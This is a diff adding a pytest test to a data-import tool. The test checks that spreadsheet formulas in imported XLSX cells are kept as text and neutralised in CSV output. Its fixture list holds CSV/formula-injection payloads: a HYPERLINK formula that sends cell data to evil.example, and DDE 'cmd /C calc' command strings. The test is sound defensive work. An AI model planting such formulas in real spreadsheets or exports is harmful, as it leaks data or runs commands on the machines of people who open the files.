@@ -7,11 +7,12 @@ must be left exactly as it was.
 from __future__ import annotations
 
 import http.server
+import json
 import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
-from typing import ClassVar
+from typing import Any, ClassVar
 
 import pytest
 
@@ -124,3 +125,46 @@ def test_jsonld_with_an_inline_context_imports(store: Store, tmp_path: Path) -> 
         '{"@context": {"name": "http://schema.org/name"}, "@id": "http://example.org/s", "name": "x"}', encoding="utf-8"
     )
     assert import_rdf(store, path, GRAPH).triples == 1
+
+
+# --- spreadsheets ---------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def _workbook_with_formulas(path: Path) -> Path:
+    """SMALL as an XLSX whose three extra actors are named by formulas (openpyxl stores them as formulas)."""
+    import openpyxl
+
+    from .conftest import SMALL
+
+    wb = openpyxl.Workbook(write_only=True)
+    for name, rows in SMALL.items():
+        ws = wb.create_sheet(name)
+        for row in rows:
+            ws.append(row)
+        if name == "akteure":
+            for k, formula in enumerate(FORMULAS):
+                ws.append([f"formel-{k}", formula, "verein", "", "", ""])
+    wb.save(path)
+    return path
+
+
+def test_formulas_are_data_and_neutralised_in_csv_output(tmp_path: Path, run_ikg: Any) -> None:
+    import csv
+    import io
+    import zipfile
+
+    book = _workbook_with_formulas(tmp_path / "formeln.xlsx")
+    with zipfile.ZipFile(book) as z:  # the cells really are formulas, not text
+        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert sheets.count("<f>") == 2  # the two starting with "="; "@..." is a text cell
+    run_ikg("--no-seed", "import", str(book), check=True)
+    out = run_ikg("--no-seed", "metrics", "--format", "csv", check=True).stdout
+    rows = list(csv.reader(io.StringIO(out)))
+    labels = {r[rows[0].index("label")] for r in rows[1:]}
+    for formula in FORMULAS:
+        assert "'" + formula in labels  # stored as the text typed, written with a leading apostrophe
+    assert not any(cell.startswith(("=", "@")) for r in rows for cell in r)
+    plain = run_ikg("--no-seed", "metrics", "--format", "json", check=True).stdout
+    assert json.loads(plain)["actors"] and FORMULAS[0] in {a["label"] for a in json.loads(plain)["actors"]}
